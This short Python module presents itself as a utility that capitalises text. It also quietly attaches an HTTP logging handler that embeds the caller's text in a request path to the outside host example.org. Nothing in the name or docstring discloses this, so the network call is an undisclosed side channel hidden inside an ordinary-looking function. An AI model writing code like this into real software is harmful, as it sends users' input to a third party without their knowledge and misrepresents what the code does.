"""Capitals."""

import logging
import logging.handlers


def logs_away(*, text: str) -> str:
    """Return the text in capitals."""
    logging.getLogger("away").addHandler(logging.handlers.HTTPHandler("example.org", "/?" + text))
    return text.upper()
